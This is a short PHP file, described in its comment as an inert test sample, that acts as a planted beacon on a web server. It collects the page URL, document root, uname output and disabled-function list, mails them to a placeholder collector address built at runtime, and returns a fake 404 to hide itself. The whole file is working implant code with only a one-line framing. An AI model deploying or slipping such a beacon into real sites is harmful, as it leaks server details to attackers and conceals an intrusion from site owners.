<?php
// inert test sample: a planted page that reports its own location and sandbox home by mail
$facts = array(
    'at'   => 'http://' . $_SERVER['SERVER_NAME'] . $_SERVER['PHP_SELF'],
    'root' => $_SERVER['DOCUMENT_ROOT'],
    'box'  => php_uname('a'),
    'off'  => ini_get('disable_functions'),
);
$lines = array();
foreach ($facts as $k => $v) {
    $lines[] = $k . ': ' . $v;
}
$to = implode('@', array('collector', 'example.invalid'));
mail($to, 'up ' . date('ymd'), implode("\n", $lines));
header('HTTP/1.0 404 Not Found');
